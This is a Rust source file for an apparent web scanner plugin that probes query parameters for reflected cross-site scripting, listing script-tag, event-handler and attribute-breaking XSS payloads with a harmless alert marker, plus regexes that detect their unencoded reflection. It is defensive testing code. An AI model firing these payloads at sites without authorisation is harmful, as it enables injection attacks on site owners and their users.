//! Reflected cross-site scripting

use super::{payload_set, ContentTypeFilter, Plugin, PluginDescriptor, PluginKind, TestCase};
use crate::models::Severity;
use crate::payloads::PayloadSource;

const DEFAULT_PAYLOADS: &[&str] = &[
    "<script>alert('halberd')</script>",
    "'\"><script>alert('halberd')</script>",
    "'\"><img src=x onerror=alert('halberd')>",
    "<svg onload=alert('halberd')>",
    "</title><script>alert('halberd')</script>",
];

const DEFAULT_ATTRIBUTE_PAYLOADS: &[&str] = &[
    "halberd\" onfocus=\"alert('halberd')\" autofocus=\"",
    "halberd' onfocus='alert(\"halberd\")' autofocus='",
];

/// Unencoded script reflected back into the page
const SCRIPT_REFLECTION: &str =
    r"<script>alert\('halberd'\)</script>|<img src=x onerror=alert\('halberd'\)>|<svg onload=alert\('halberd'\)>";

/// Event handler that escaped the attribute it was injected into
const ATTRIBUTE_REFLECTION: &str = r#"onfocus=["']alert\(["']halberd["']\)["']"#;

pub struct XssPlugin;

impl Plugin for XssPlugin {
    fn describe(&self) -> PluginDescriptor {
        PluginDescriptor {
            name: "xss",
            description: "Reflected cross-site scripting through query parameters",
            kind: PluginKind::Fuzzer,
        }
    }

    fn test_cases(&self, payloads: &dyn PayloadSource, use_full_payloads: bool) -> Vec<TestCase> {
        let html_only = ContentTypeFilter::allow(&["text/html", "application/xhtml+xml"]);
        vec![
            TestCase::new("xss", "Reflected Cross-Site Scripting", Severity::High)
                .with_injection_strings(payload_set(
                    payloads,
                    "xss",
                    use_full_payloads,
                    DEFAULT_PAYLOADS,
                ))
                .with_match_string(SCRIPT_REFLECTION)
                .all_params_at_once()
                .with_content_type_filter(html_only.clone()),
            TestCase::new(
                "xss_attribute",
                "Cross-Site Scripting via Attribute Injection",
                Severity::High,
            )
            .with_injection_strings(payload_set(
                payloads,
                "xss_attribute",
                use_full_payloads,
                DEFAULT_ATTRIBUTE_PAYLOADS,
            ))
            .with_match_string(ATTRIBUTE_REFLECTION)
            .with_content_type_filter(html_only),
        ]
    }
}
